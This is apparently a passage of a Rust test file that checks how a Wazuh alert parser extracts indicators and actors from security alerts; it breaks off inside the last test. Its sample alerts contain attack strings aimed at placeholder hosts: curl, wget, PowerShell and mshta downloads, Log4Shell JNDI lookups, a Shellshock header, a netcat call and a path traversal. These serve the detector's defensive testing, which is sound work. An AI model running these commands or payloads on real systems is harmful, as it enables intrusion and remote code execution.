//! What an alert is about: who did what to what, on what, and what to look for elsewhere.

#![allow(clippy::unwrap_used, reason = "only tests")]
#![allow(clippy::too_many_lines, reason = "tables of alerts")]

#[path = "about/by_writer.rs"]
mod by_writer;
mod corpus;
#[path = "about/passed_over.rs"]
mod passed_over;
#[path = "about/products.rs"]
mod products;
#[path = "about/who.rs"]
mod who;

use std::collections::HashSet;

use serde_json::{Value, json};
use wazuh_model::{Alert, IndicatorKind, Os, OwnNetworks, Scope, UserPart};

fn alert(value: &Value) -> Alert {
    Alert::from_slice(value.to_string().as_bytes()).unwrap()
}

fn labelled(kind: &str) -> Alert {
    let found = corpus::labelled().into_iter().find(|(name, _)| name == kind);
    Alert::from_slice(&found.unwrap().1).unwrap()
}

fn indicators_of(value: &Value) -> Vec<(&'static str, String)> {
    let found = alert(value).indicators(&OwnNetworks::none());
    found
        .into_iter()
        .map(|one| (one.kind.iris_type_name(), one.value))
        .collect()
}

fn expect(value: &Value, expected: &[(&str, &str)]) {
    let expected: Vec<_> = expected
        .iter()
        .map(|(kind, value)| (*kind, (*value).to_owned()))
        .collect();
    assert_eq!(indicators_of(value), expected, "{value}");
}

const MD5: &str = "087875b45857b2a20d4d64230ad402a4";
const SHA1: &str = "d12041b8d3c993c94f8e3987f57946d1dae36728";
const SHA256: &str = "31959c926cba0dae9dbfae47aee2ce00a2d41b0871b150d8551fe54049589d1c";

#[test]
fn every_family_gives_its_indicators() {
    let eventdata =
        |data: Value| json!({"data": {"win": {"system": {"computer": "WS-1.corp.example"}, "eventdata": data}}});
    // Sysmon: each hash apart, the far end, what a command line names.
    expect(
        &eventdata(
            json!({"hashes": format!("SHA1={},MD5={},SHA256={},IMPHASH={}", SHA1.to_uppercase(), MD5, SHA256, MD5.replace('0', "1"))}),
        ),
        &[
            ("sha1", SHA1),
            ("md5", MD5),
            ("sha256", SHA256),
            ("imphash", &MD5.replace('0', "1")),
        ],
    );
    expect(
        &eventdata(
            json!({"sourceIp": "10.0.0.1", "destinationIp": "203.0.113.9", "destinationHostname": "Evil.Example.", "destinationPort": "443"}),
        ),
        &[("ip-dst", "203.0.113.9"), ("domain", "evil.example")],
    );
    expect(
        &eventdata(
            json!({"queryName": "c2.evil.example", "queryResults": "type:  5 x.example;::ffff:203.0.113.9;10.0.0.1;"}),
        ),
        &[("domain", "c2.evil.example"), ("ip-dst", "203.0.113.9")],
    );
    expect(
        &eventdata(
            json!({"commandLine": "powershell iwr \\\"http://203.0.113.66:8080/a.ps1?x=1&amp;y=2\\\" -o C:\\\\a; ping 198.51.100.4; curl https://evil.example/x"}),
        ),
        &[
            ("ip-dst", "203.0.113.66"),
            ("url", "http://203.0.113.66:8080/a.ps1?x=1&y=2"),
            ("domain", "evil.example"),
            ("url", "https://evil.example/x"),
            ("ip-dst", "198.51.100.4"),
        ],
    );
    expect(
        &eventdata(json!({"targetFilename": "C:\\\\Users\\\\x\\\\invoice.pdf.exe"})),
        &[("filename", "invoice.pdf.exe")],
    );
    expect(
        &eventdata(json!({"ipAddress": "::ffff:203.0.113.9", "ipPort": "50123", "targetUserName": "j.doe"})),
        &[("ip-src", "203.0.113.9")],
    );
    let long = format!("curl http://evil.example/{}", "a".repeat(3_000));
    expect(&eventdata(json!({"commandLine": long})), &[("domain", "evil.example")]);
    // FIM: what is there now, not what was there before.
    expect(
        &json!({"syscheck": {"path": "/srv/www/shell.php", "event": "added", "md5_before": MD5.replace('0', "1"), "md5_after": MD5, "sha1_after": SHA1, "sha256_after": SHA256}}),
        &[
            ("filename", "shell.php"),
            ("md5", MD5),
            ("sha1", SHA1),
            ("sha256", SHA256),
        ],
    );
    expect(
        &json!({"syscheck": {"path": "/usr/bin/sudo", "event": "modified", "md5_after": MD5}}),
        &[("md5", MD5)],
    );
    // Network.
    expect(
        &json!({"data": {"srcip": "203.0.113.7", "dstip": "10.0.0.5", "srcuser": "root"}}),
        &[("ip-src", "203.0.113.7")],
    );
    expect(
        &json!({"data": {"src_ip": "10.0.0.5", "src_port": "50000", "dest_ip": "203.0.113.7", "dest_port": "80", "http": {"hostname": "evil.example", "url": "/gate.php"}, "tls": {"ja3": {"hash": MD5}}}}),
        &[
            ("ip-dst", "203.0.113.7"),
            ("domain", "evil.example"),
            ("url", "http://evil.example/gate.php"),
        ],
    );
    // Whoever calls home may choose a port below the server's.
    expect(
        &json!({"data": {"src_ip": "10.0.0.5", "src_port": "1024", "dest_ip": "203.0.113.7", "dest_port": "8080", "direction": "to_server", "http": {"hostname": "evil.example", "url": "/gate.php"}, "tls": {"ja3": {"hash": MD5}}}}),
        &[
            ("ip-dst", "203.0.113.7"),
            ("domain", "evil.example"),
            ("url", "http://evil.example/gate.php"),
        ],
    );
    expect(
        &json!({"data": {"src_ip": "203.0.113.7", "src_port": "50000", "dest_ip": "10.0.0.5", "dest_port": "80", "http": {"hostname": "shop.corp.example", "url": "/x"}}}),
        &[("ip-src", "203.0.113.7")],
    );
    expect(
        &json!({"data": {"srcip": "203.0.113.7", "url": "/a.php?u=http://evil.example/shell.txt"}}),
        &[
            ("ip-src", "203.0.113.7"),
            ("domain", "evil.example"),
            ("url", "http://evil.example/shell.txt"),
        ],
    );
    // Clouds.
    expect(
        &json!({"data": {"aws": {"sourceIPAddress": "203.0.113.7", "eventName": "x", "responseElements": {"publicIp": "8.8.8.8"}}}}),
        &[("ip-src", "203.0.113.7")],
    );
    expect(
        &json!({"data": {"aws": {"sourceIPAddress": "cloudtrail.amazonaws.com", "eventName": "x"}}}),
        &[],
    );
    expect(
        &json!({"data": {"office365": {"ClientIP": "203.0.113.7:50123", "UserId": "a@corp.example"}}}),
        &[("ip-src", "203.0.113.7")],
    );
    expect(
        &json!({"data": {"office365": {"P1Sender": "Eve <eve@evil.example>", "SenderIp": "203.0.113.7"}}}),
        &[("email", "eve@evil.example"), ("ip-src", "203.0.113.7")],
    );
    expect(
        &json!({"data": {"gcp": {"protoPayload": {"requestMetadata": {"callerIp": "203.0.113.7"}}}}}),
        &[("ip-src", "203.0.113.7")],
    );
    expect(
        &json!({"data": {"ms-graph": {"ipAddress": "203.0.113.7"}}}),
        &[("ip-src", "203.0.113.7")],
    );
    expect(
        &json!({"data": {"office365": {"SourceFileName": "Budget.xlsx", "SiteUrl": "https://corp.sharepoint.example/x"}}}),
        &[],
    );
    // Modules.
    expect(
        &json!({"data": {"virustotal": {"source": {"file": "/x/eicar.com", "md5": MD5, "sha1": SHA1}, "sha1": SHA1, "permalink": "https://www.virustotal.com/x"}}}),
        &[("filename", "eicar.com"), ("md5", MD5), ("sha1", SHA1)],
    );
    expect(
        &json!({"data": {"vulnerability": {"cve": "CVE-2024-1", "reference": "https://nvd.example/x", "package": {"version": "1.2.3.4"}}}}),
        &[],
    );
    expect(
        &json!({"data": {"audit": {"exe": "/usr/bin/curl", "addr": "203.0.113.7", "execve": {"a0": "curl"}}}}),
        &[("ip-src", "203.0.113.7")],
    );
    // Wazuh 5.
    expect(
        &json!({"wazuh": {"rule": {"id": "x"}, "agent": {"id": "1", "host": {"ip": ["8.8.8.8"]}}}, "source": {"ip": "203.0.113.7"}, "destination": {"ip": "198.51.100.1"}, "host": {"ip": "8.8.4.4"}, "file": {"hash": {"md5": MD5}}, "process": {"command_line": "curl http://evil.example/"}, "dns": {"question": {"name": "evil2.example"}}}),
        &[
            ("ip-src", "203.0.113.7"),
            ("ip-dst", "198.51.100.1"),
            ("md5", MD5),
            ("domain", "evil.example"),
            ("url", "http://evil.example/"),
            ("domain", "evil2.example"),
        ],
    );
}

#[test]
fn one_thing_in_two_spellings_is_one_indicator() {
    let eventdata = |data: Value| json!({"data": {"win": {"eventdata": data}}});
    for (value, expected) in [
        (
            json!({"data": {"srcip": "::ffff:203.0.113.9", "src_ip": "203.0.113.9", "client_ip": "203[.]0[.]113[.]9:443"}}),
            &[("ip-src", "203.0.113.9")][..],
        ),
        (
            json!({"data": {"srcip": "2001:db8:0:0:0:0:0:1", "src_ip": "[2001:DB8::0001]:443"}}),
            &[("ip-src", "2001:db8::1")],
        ),
        (
            eventdata(json!({"queryName": "Evil.Example.", "destinationHostname": "evil.example"})),
            &[("domain", "evil.example")],
        ),
        (
            json!({"data": {"http": {"hostname": "b\u{fc}cher.example:8080"}, "tls": {"sni": "xn--bcher-kva.example"}}}),
            &[("domain", "xn--bcher-kva.example")],
        ),
        (
            eventdata(
                json!({"commandLine": "curl HTTP://Evil.Example:80/%61 hxxp[:]//evil[.]example/a http%3A%2F%2Fevil.example%2Fa"}),
            ),
            &[("domain", "evil.example"), ("url", "http://evil.example/a")],
        ),
        (
            eventdata(json!({"commandLine": "curl https://203.0.113.9 https://3405803785/ https://203.0.113.9:443"})),
            &[("ip-dst", "203.0.113.9"), ("url", "https://203.0.113.9/")],
        ),
        (
            eventdata(json!({"hashes": format!("MD5={}", MD5.to_uppercase()), "hash": MD5})),
            &[("md5", MD5)],
        ),
        (
            json!({"data": {"sender": "Eve@Evil.Example", "mailfrom": "<eve@evil.example.>"}}),
            &[("email", "eve@evil.example")],
        ),
        (
            json!({"data": {"l": [{"targetFilename": "C:\\x\\Invoice.EXE"}, {"targetFilename": "C:\\y\\invoice.exe"}]}}),
            &[("filename", "Invoice.EXE")],
        ),
        // A list of all addresses does not hide at which end one stood.
        (
            json!({"wazuh": {"rule": {"id": "x"}}, "related": {"ip": ["203.0.113.9", "198.51.100.1"]}, "source": {"ip": "203.0.113.9"}}),
            &[("ip-src", "203.0.113.9"), ("ip-any", "198.51.100.1")],
        ),
    ] {
        expect(&value, expected);
    }
}

#[test]
fn indicators_are_found_where_they_are_written_small() {
    let eventdata = |data: Value| json!({"data": {"win": {"eventdata": data}}});
    let ssh = "Jan 20 09:02:17 web01 sshd[17]: Failed password for invalid user x from 203.0.113.9 port 4022 ssh2";
    for (value, expected) in [
        // A line that no decoder took apart; one that was taken apart says nothing new.
        (json!({"full_log": ssh}), &[("ip-src", "203.0.113.9")][..]),
        (json!({"full_log": ssh, "data": {"srcip": "10.0.0.1"}}), &[]),
        (
            json!({"full_log": "[Tue Jan 20 09:02:17 2026] [error] [client 203.0.113.9:51000] File does not exist: /x from 8.8.8.8"}),
            &[("ip-src", "203.0.113.9")],
        ),
        (json!({"full_log": "[{\"peer\": \"a from 203.0.113.9\"}]"}), &[]),
        // The SSH server may look the other end up.
        (
            json!({"data": {"srcip": "host.evil.example", "dstip": "any"}}),
            &[("domain", "host.evil.example")],
        ),
        // What an attacker wants a server to fetch.
        (
            json!({"data": {"srcuser": "${jndi:ldap://evil.example:1389/a}"}}),
            &[("domain", "evil.example"), ("url", "ldap://evil.example:1389/a")],
        ),
        // The scheme put together by look-ups, and the place behind one that looks like this host.
        (
            json!({"full_log": "GET /?x=${jndi:${lower:l}${lower:d}ap://evil.example/a} HTTP/1.1"}),
            &[("domain", "evil.example")],
        ),
        (
            json!({"data": {"id": "${${::-j}ndi:${::-r}${::-m}${::-i}://203.0.113.9:1099/a}"}}),
            &[("ip-dst", "203.0.113.9")],
        ),
        (
            json!({"data": {"id": "${jndi:ldap://127.0.0.1#evil.example:1389/a}"}}),
            &[("domain", "evil.example")],
        ),
        (
            json!({"decoder": {"name": "web-accesslog"}, "data": {"srcip": "10.0.0.1", "url": "/"},
                "full_log": "10.0.0.1 - - \"GET / HTTP/1.1\" 404 1 \"https://shop.example/\" \"() { :;}; /bin/bash -c 'curl http://203.0.113.9/s'\""}),
            &[("ip-dst", "203.0.113.9"), ("url", "http://203.0.113.9/s")],
        ),
        (
            json!({"data": {"srcip": "10.0.0.1", "url": "/x.php?cmd=wget%20http://evil.example/a.sh%20-O%20/tmp/a&v=8.8.8.8"}}),
            &[("domain", "evil.example"), ("url", "http://evil.example/a.sh")],
        ),
        (
            json!({"data": {"srcip": "10.0.0.1", "url": "/x.php?cmd=nc+203.0.113.9+4444"}}),
            &[("ip-dst", "203.0.113.9")],
        ),
        // What stands inside of another URL, or behind a scheme that leads nowhere else.
        (
            json!({"data": {"srcip": "10.0.0.1", "url": "/x.php?page=php://filter/resource=http://evil.example/s.txt"}}),
            &[("domain", "evil.example"), ("url", "http://evil.example/s.txt")],
        ),
        (
            eventdata(json!({"commandLine": "curl https://203.0.113.9/?to=http://evil.example;id"})),
            &[
                ("ip-dst", "203.0.113.9"),
                ("url", "https://203.0.113.9/?to=http://evil.example"),
                ("domain", "evil.example"),
                ("url", "http://evil.example/"),
            ],
        ),
        // Where a download came from, what a registry value and a subscription run.
        (
            eventdata(json!({"contents": "[ZoneTransfer]  ZoneId=3  HostUrl=https://evil.example/x.exe"})),
            &[("domain", "evil.example"), ("url", "https://evil.example/x.exe")],
        ),
        (
            eventdata(json!({"details": "mshta http://203.0.113.9/x.hta"})),
            &[("ip-dst", "203.0.113.9"), ("url", "http://203.0.113.9/x.hta")],
        ),
        // Remote desktop.
        (
            json!({"data": {"win": {"eventXML": {"user": "CORP\\\\x", "address": "203.0.113.9"}}}}),
            &[("ip-src", "203.0.113.9")],
        ),
        // Sensors and proxies that give host and path apart.
        (
            json!({"data": {"id": {"orig_h": "10.0.0.1", "orig_p": "50000", "resp_h": "203.0.113.9", "resp_p": "80"}, "host": "evil.example", "uri": "/gate.php"}}),
            &[
                ("ip-dst", "203.0.113.9"),
                ("domain", "evil.example"),
                ("url", "http://evil.example/gate.php"),
            ],
        ),
        (
            json!({"data": {"srcip": "203.0.113.9", "dstip": "10.0.0.1", "hostname": "shop.corp.example", "url": "/x"}}),
            &[("ip-src", "203.0.113.9")],
        ),
        // Clouds.
        (
            json!({"data": {"aws": {"source": "guardduty", "service": {"action": {"dnsRequestAction": {"domain": "c2.evil.example"}}}}}}),
            &[("domain", "c2.evil.example")],
        ),
        (
            json!({"data": {"office365": {"UserId": "a@corp.example", "Parameters": [{"Name": "ForwardTo", "Value": "Eve@evil.example;b@corp.example"}, {"Name": "From", "Value": "c@evil.example"}]}}}),
            &[("email", "eve@evil.example")],
        ),
        (
            json!({"data": {"ms-graph": {"evidence": [{"p1Sender": {"emailAddress": "eve@evil.example"}, "fileDetails": {"sha256": SHA256, "fileName": "a.docm"}, "lastExternalIpAddress": "8.8.8.8"}]}}}),
            &[
                ("email", "eve@evil.example"),
                ("sha256", SHA256),
                ("filename", "a.docm"),
            ],
        ),
    ] {
        expect(&value, expected);
    }
}

#[test]
fn what_is_ones_own_or_nobodys_is_no_indicator() {
    for ip in [
        "10.1.2.3",
        "172.16.0.1",
        "192.168.0.1",
        "100.64.0.1",
        "127.0.0.1",
        "169.254.169.254",
        "0.0.0.0",
        "224.0.0.1",
        "::1",
        "fe80::1",
        "fd00::1",
        "-",
        "any",
        "not-an-ip",
    ] {
        expect(&json!({"data": {"srcip": ip}}), &[]);
    }
    let own = OwnNetworks::new(["8.8.8.0/24".parse().unwrap()], ["corp.example"]);
    let mine = alert(
        &json!({"agent": {"id": "001", "ip": "9.9.9.9"}, "data": {"srcip": "8.8.8.8", "dstip": "9.9.9.9", "url": "https://intranet.corp.example/x", "sender": "a@corp.example"}}),
    );
    assert_eq!(mine.indicators(&own), []);
    let machine = json!({"data": {"win": {"system": {"computer": "WS-1.ad.corp.test-org.com"}, "eventdata": {"queryName": "dc01.ad.corp.test-org.com"}}}});
    expect(&machine, &[]);
    let named = json!({"agent": {"id": "001", "name": "web-01.corp.test-org.com"}, "data": {"http": {"hostname": "web-01.corp.test-org.com"}, "sni": "x.corp.test-org.com"}});
    expect(&named, &[]);
    // Every address of the machine, and the name that its own server is asked for.
    let public = json!({"agent": {"id": "001", "ip": "8.8.4.4"}, "data": {"src_ip": "1.1.1.1", "src_port": "50000", "dest_ip": "8.8.4.4", "dest_port": "443", "tls": {"sni": "shop.test-org.com"}, "http": {"hostname": "shop.test-org.com", "url": "/x"}}});
    expect(&public, &[("ip-src", "1.1.1.1")]);
    expect(
        &json!({"wazuh": {"agent": {"id": "1", "host": {"ip": ["10.0.0.1", "8.8.8.8"]}}, "rule": {"id": "x"}}, "source": {"ip": "1.1.1.1"}, "destination": {"ip": "8.8.8.8"}}),
        &[("ip-src", "1.1.1.1")],
    );
    // A name in one's own domain, and the name of a file.
    expect(
        &json!({"data": {"http": {"hostname": "update.exe"}, "query": "a.dll"}}),
        &[],
    );
    let documented =
        alert(&json!({"data": {"srcip": "203.0.113.7", "dstip": "8.8.8.8"}})).indicators(&OwnNetworks::none());
    assert_eq!(
        (documented[0].scope, documented[1].scope),
        (Some(Scope::Documentation), Some(Scope::Public))
    );
}

#[test]
fn the_machines_own_domain_is_never_one_that_everybody_registers_in() {
    let value = |name: &str| json!({"agent": {"id": "1", "name": name}, "data": {"win": {"eventdata": {"commandLine": "x http://evil.co.uk/ http://evil.com.au/"}}}});
    let both = indicators_of(&value("ws-1"));
    assert_eq!(both.len(), 4);
    assert_eq!(indicators_of(&value("acme.co.uk")), both);
    assert_eq!(indicators_of(&value("mail.com.au")), both);
    assert_eq!(indicators_of(&value("ws-1.evil.co.uk")).len(), 2);
}

#[test]
fn who_is_asked_for_names_by_everybody_is_no_indicator() {
    let asked = |resolver: &str, port: &str| {
        json!({"data": {"src_ip": "10.1.4.9", "src_port": "50011", "dest_ip": resolver, "dest_port": port,
                        "dns": {"query": [{"rrname": "evil-c2.top"}]}}})
    };
    for resolver in ["8.8.8.8", "1.1.1.1", "2620:fe::fe"] {
        expect(&asked(resolver, "53"), &[("domain", "evil-c2.top")]);
    }
    expect(
        &asked("8.8.8.8", "4444"),
        &[("ip-dst", "8.8.8.8"), ("domain", "evil-c2.top")],
    );
    expect(
        &asked("203.0.113.53", "53"),
        &[("ip-dst", "203.0.113.53"), ("domain", "evil-c2.top")],
    );
    let sysmon = json!({"destinationIp": "8.8.8.8", "destinationPort": "53"});
    expect(&json!({"data": {"win": {"eventdata": sysmon}}}), &[]);
    let mut beside = asked("203.0.113.53", "53");
    beside["data"]["url"] = json!("http://8.8.8.8/a");
    assert!(indicators_of(&beside).contains(&("ip-dst", "8.8.8.8".to_owned())));
    // Zeek writes beside the question what it led to.
    let zeek = json!({"id.orig_h": "10.1.1.20", "id.resp_h": "9.9.9.9", "id.resp_p": "53", "query": "x.evil-c2.top",
                      "answers": ["x.evil-c2.top", "203.0.113.9"]});
    expect(
        &json!({"data": zeek}),
        &[("domain", "x.evil-c2.top"), ("ip-dst", "203.0.113.9")],
    );
}

#[test]
fn what_misp_lists_is_an_indicator_of_its_kind() {
    let hit = |kind: &str, value: &str| json!({"data": {"integration": "misp", "misp": {"event_id": "12", "category": "Network activity", "value": value, "type": kind}}});
    expect(&hit("domain", "evil-c2.top"), &[("domain", "evil-c2.top")]);
    expect(&hit("ip-dst", "203.0.113.9"), &[("ip-dst", "203.0.113.9")]);
    expect(&hit("ip-dst|port", "203.0.113.9|443"), &[("ip-dst", "203.0.113.9")]);
    expect(&hit("ip-src", "10.0.0.1"), &[]);
    expect(&hit("sha256", SHA256), &[("sha256", SHA256)]);
    expect(
        &hit("filename|md5", &format!("invoice.exe|{MD5}")),
        &[("filename", "invoice.exe"), ("md5", MD5)],
    );
    expect(
        &hit("url", "http://evil-c2.top/a"),
        &[("domain", "evil-c2.top"), ("url", "http://evil-c2.top/a")],
    );
    expect(
        &hit("url", "http://203.0.113.9/a|b"),
        &[("ip-dst", "203.0.113.9"), ("url", "http://203.0.113.9/a")],
    );
    expect(&hit("text", "evil-c2.top"), &[]);
}

#[test]
fn what_only_looks_like_a_hash_is_none() {
    let zeros = "0".repeat(32);
    for hashes in [
        "MD5=",
        "MD5=xyz",
        "SHA1=087875b45857b2a20d4d64230ad402",
        &format!("MD5={zeros},IMPHASH={zeros}"),
        "MD5=d41d8cd98f00b204e9800998ecf8427e",
        &format!("VHASH={MD5}"),
    ] {
        expect(&json!({"data": {"win": {"eventdata": {"hashes": hashes}}}}), &[]);
    }
    // One that was cut has the length of another.
    expect(
        &json!({"data": {"win": {"eventdata": {"hashes": format!("SHA256={SHA1}")}}}}),
        &[],
    );
    expect(&json!({"syscheck": {"sha256_after": SHA1, "md5_after": SHA1}}), &[]);
    // A person, a request and a picture of a container have digests of their own.
    expect(
        &json!({"data": {"aws": {"requestParameters": {"x-amz-content-sha256": SHA256}}}, "user": {"hash": MD5}, "container": {"image": {"hash": {"all": [SHA256]}}}}),
        &[],
    );
    // A request id is as long as a hash.
    expect(
        &json!({"data": {"aws": {"requestID": MD5, "eventID": SHA1}, "id": MD5}}),
        &[],
    );
}

#[test]
fn hashes_of_what_every_machine_has_or_one_alone_are_none() {
    for path in [
        "HKEY_LOCAL_MACHINE\\System\\CurrentControlSet\\Services\\W32Time",
        "/etc/passwd",
        r"C:\Windows\System32\drivers\etc\hosts",
        "/home/x/.bash_history",
    ] {
        expect(
            &json!({"syscheck": {"path": path, "event": "modified", "md5_after": MD5, "sha1_after": SHA1, "sha256_after": SHA256}}),
            &[],
        );
    }
    // What is not where such files are, or what somebody brought.
    for (path, event) in [
        (r"C:\Users\Public\desktop.ini", "added"),
        ("/dev/shm/.x/group", "added"),
        ("/tmp/passwd", "modified"),
        ("/home/x/.cache/.bashrc", "modified"),
        ("/dev/shm/etc/hosts", "modified"),
        ("/dev/shm/.x/.bash_history", "modified"),
        ("/var/lib/postgresql/.bash_history", "added"),
        ("/home/.x/y/.bashrc", "modified"),
        ("/tmp/.bash_history", "modified"),
        ("/var/www/html/.bash_history", "modified"),
        ("/home/x/public_html/.profile", "added"),
        ("/home/x/y/z/known_hosts", "added"),
        ("/srv/www/htdocs/.bash_history", "modified"),
        ("/var/lib/tomcat9/webapps/ROOT/.bash_history", "modified"),
        ("/opt/lampp/htdocs/.bash_history", "modified"),
        ("/home/x/public_html/.bash_history", "modified"),
        ("/var/lib/docker/overlay2/0a/diff/tmp/.bash_history", "modified"),
        ("/home/x/Downloads/.bashrc", "added"),
        ("/home/x/Downloads/.bashrc", "modified"),
        ("/home/x/payload/.profile", "added"),
        ("/home/x/payload/known_hosts", "added"),
    ] {
        expect(
            &json!({"syscheck": {"path": path, "event": event, "sha1_after": SHA1}}),
            &[("sha1", SHA1)],
        );
    }
    for path in [
        r"C:\Users\x\Desktop\desktop.ini",
        r"C:\Users\x\NTUSER.DAT",
        "/home/x/.ssh/known_hosts",
        "/root/.bashrc",
        "/home/corp/x/.bashrc",
        "/home/corp/x/.ssh/known_hosts",
        "/var/lib/postgresql/.bash_history",
        "/var/lib/www/.bash_history",
        "/srv/www/.bash_history",
        "/home/www/.bash_history",
        "/home/www/.bashrc",
        "/home/tmp/.profile",
        "/home/html/.ssh/known_hosts",
        "/Users/desktop/.bash_history",
        r"C:\Windows\Sysnative\drivers\etc\hosts",
        "/private/etc/hosts",
        "/etc/ssh/sshd_config",
    ] {
        expect(
            &json!({"syscheck": {"path": path, "event": "modified", "sha1_after": SHA1}}),
            &[],
        );
    }
    // A home comes with them.
    for path in [
        "/home/x/.profile",
        "/root/.bashrc",
        "/home/x/.ssh/known_hosts",
        "/home/www/.bashrc",
    ] {
        expect(
            &json!({"syscheck": {"path": path, "event": "added", "sha1_after": SHA1}}),
            &[],
        );
    }
    // The same of an alert that was answered; what is merely called so is a field like others.
    let answered = |path: &str, decoder: &str| json!({"decoder": {"name": decoder}, "data": {"parameters": {"program": "x", "alert": {"syscheck": {"path": path, "event": "added", "sha1_after": SHA1}}}}});
    expect(&answered("/etc/passwd", "ar_log_json"), &[]);
    expect(
        &answered("/tmp/evil.sh", "ar_log_json"),
        &[("filename", "evil.sh"), ("sha1", SHA1)],
    );
    expect(&answered("/tmp/evil.sh", "json"), &[("sha1", SHA1)]);
    // What somebody may have planted, and what another product says beside it.
    expect(
        &json!({"syscheck": {"path": "/root/.ssh/authorized_keys", "event": "added", "sha1_after": SHA1}}),
        &[("sha1", SHA1)],
    );
    expect(
        &json!({"syscheck": {"path": "/etc/passwd", "sha1_after": SHA1}, "data": {"md5": MD5}}),
        &[("md5", MD5)],
    );
}

#[test]
fn who_writes_from_the_domain_of_the_mailboxes_is_no_indicator() {
    expect(
        &json!({"data": {"office365": {"UserId": "bob@corp.example", "Sender": "alice@mail.corp.example", "P2Sender": "eve@evil.example"}}}),
        &[("email", "eve@evil.example")],
    );
    // Who is named for the mail that he wrote, or as a guest, may be anybody.
    for user in ["Eve@evil.example", "x_corp.example#EXT#@evil.example"] {
        expect(
            &json!({"data": {"office365": {"UserId": user, "P1Sender": "eve@evil.example"}}}),
            &[("email", "eve@evil.example")],
        );
    }
    for sender in [
        json!({"SenderFromAddress": "eve@evil.example"}),
        json!({"P1Sender": "\"Eve\" <Eve@Evil.example>"}),
        json!({"Item": {"ReplyTo": ["bob@corp.example", "eve@evil.example"]}}),
    ] {
        let mut record = sender.clone();
        record["UserId"] = json!("eve@evil.example");
        let found = indicators_of(&json!({"data": {"office365": record}}));
        assert!(
            found.contains(&("email", "eve@evil.example".to_owned())),
            "{sender}: {found:?}"
        );
    }
}

#[test]
fn nothing_is_found_twice_in_any_alert() {
    for (name, line) in corpus::all() {
        let found = Alert::from_slice(&line).unwrap().indicators(&OwnNetworks::none());
        let distinct: HashSet<_> = found.iter().map(|one| (one.kind, one.value.clone())).collect();
        assert_eq!(distinct.len(), found.len(), "{name}");
        let addresses: Vec<_> = found
            .iter()
            .filter(|one| one.scope.is_some())
            .map(|one| &one.value)
            .collect();
        assert_eq!(
            addresses.iter().collect::<HashSet<_>>().len(),
            addresses.len(),
            "one address at both ends: {name}"
        );
        for one in &found {
            match one.kind {
                IndicatorKind::IpSrc | IndicatorKind::IpDst | IndicatorKind::Ip => {
                    assert!(one.scope.unwrap().is_foreign());
                }
                IndicatorKind::Md5 | IndicatorKind::Imphash => assert_eq!(one.value.len(), 32),
                IndicatorKind::Sha1 => assert_eq!(one.value.len(), 40),
                IndicatorKind::Sha256 => assert_eq!(one.value.len(), 64),
                _ => assert!(!one.value.is_empty()),
            }
        }
    }
}

#[test]
fn actors_of_a_process_are_its_whole_family() {
    let alert = labelled("certutil_download");
    let actors = alert.actors();
    let process = actors.process.as_ref().unwrap();
    assert_eq!(process.image.as_deref(), Some(r"C:\Windows\System32\certutil.exe"));
    assert_eq!(process.id.as_deref(), Some("4060"));
    assert!(process.command_line.as_ref().unwrap().contains("-urlcache"));
    assert_eq!(
        actors.parent.as_ref().unwrap().image.as_deref(),
        Some(r"C:\Windows\System32\cmd.exe")
    );
    assert_eq!(actors.user().unwrap().name, r"CORP\m.lee");
    assert_eq!(actors.urls, ["http://198.51.100.23/u.dat"]);
}

#[test]
fn actors_of_a_log_on_are_who_and_from_where() {
    let alert = labelled("rdp_bruteforce_external");
    let actors = alert.actors();
    assert_eq!(
        (actors.sources[0].ip.as_deref(), actors.sources[0].host.as_deref()),
        (Some("198.51.100.77"), Some("KALI"))
    );
    let user = actors.user().unwrap();
    assert_eq!(
        (user.name.as_ref(), user.domain.as_deref(), user.part),
        ("administrator", Some("CORP"), UserPart::Target)
    );
    let success = labelled("rdp_loopback");
    assert_eq!(
        success.actors().user().unwrap().name,
        "adm.smith",
        "the machine account is nobody's name"
    );
    let ssh = alert_of_ssh();
    let actors = ssh.actors();
    assert_eq!(
        (actors.sources[0].ip.as_deref(), actors.sources[0].port),
        (Some("203.0.113.7"), Some(4022))
    );
    assert_eq!(
        actors.users.iter().map(|user| user.name.as_ref()).collect::<Vec<_>>(),
        ["admin"]
    );
}

fn alert_of_ssh() -> Alert {
    alert(
        &json!({"decoder": {"name": "sshd"}, "data": {"srcip": "203.0.113.7", "srcport": "4022", "srcuser": "admin"}}),
    )
}

#[test]
fn actors_tell_accounts_groups_registry_and_requests_apart() {
    let group = labelled("admin_group_add");
    assert_eq!(
        group
            .actors()
            .users
            .iter()
            .map(|user| user.name.as_ref())
            .collect::<Vec<_>>(),
        ["adm.smith"],
        "a group is no user"
    );
    let registry = labelled("fim_registry_tz");
    assert!(registry.actors().files.is_empty() && registry.actors().registry.len() == 1);
    let run_key = labelled("run_key_public_vbs");
    assert!(run_key.actors().registry[0].ends_with(r"Run\Updater"));
    let file = labelled("fim_sshd_by_curl");
    let actors = file.actors();
    assert_eq!(
        (actors.files[0].as_ref(), actors.process.unwrap().image.as_deref()),
        ("/usr/sbin/sshd", Some("/usr/bin/curl"))
    );
    let request = labelled("traversal_403");
    assert_eq!(request.actors().urls, ["/..%2f..%2f..%2fetc/passwd"]);
    let key = labelled("aws_access_key_created");
    let actors = key.actors();
    assert!(
        actors
            .users
            .iter()
            .any(|user| user.name == "breakglass-admin" && user.part == UserPart::Target),
        "who is not the caller"
    );
    let root = labelled("aws_root_login_no_mfa");
    assert!(root.actors().user().unwrap().name.ends_with(":root"));
    let record = alert(
        &json!({"data": {"audit": {"exe": "/usr/bin/curl", "command": "curl", "execve": {"a0": "curl", "a1": "http://203.0.113.9/x"}, "file": {"name": "/tmp/x"}}}}),
    );
    let actors = record.actors();
    assert_eq!(
        actors.process.unwrap().command_line.as_deref(),
        Some("curl http://203.0.113.9/x")
    );
    assert_eq!((actors.urls.len(), actors.files.len()), (1, 1));
    assert_eq!(
        indicators_of(record.value()),
        [
            ("ip-dst", "203.0.113.9".to_owned()),
            ("url", "http://203.0.113.9/x".to_owned())
        ]
    );
    let access = alert(
        &json!({"data": {"win": {"system": {"providerName": "Microsoft-Windows-Sysmon", "eventID": "10"}, "eventdata": {"sourceImage": "C:\\\\a.exe", "targetImage": "C:\\\\lsass.exe", "targetUser": "NT AUTHORITY\\\\SYSTEM"}}}}),
    );
    assert_eq!(access.actors().target.unwrap().image.as_deref(), Some(r"C:\lsass.exe"));
}

#[test]
fn actors_name_the_far_end_by_its_name() {
    let connection = alert(
        &json!({"data": {"win": {"eventdata": {"sourceIp": "10.0.0.1", "sourceHostname": "ws-1", "destinationIp": "203.0.113.9", "destinationHostname": "evil.example", "destinationPort": "443"}}}}),
    );
    let actors = connection.actors();
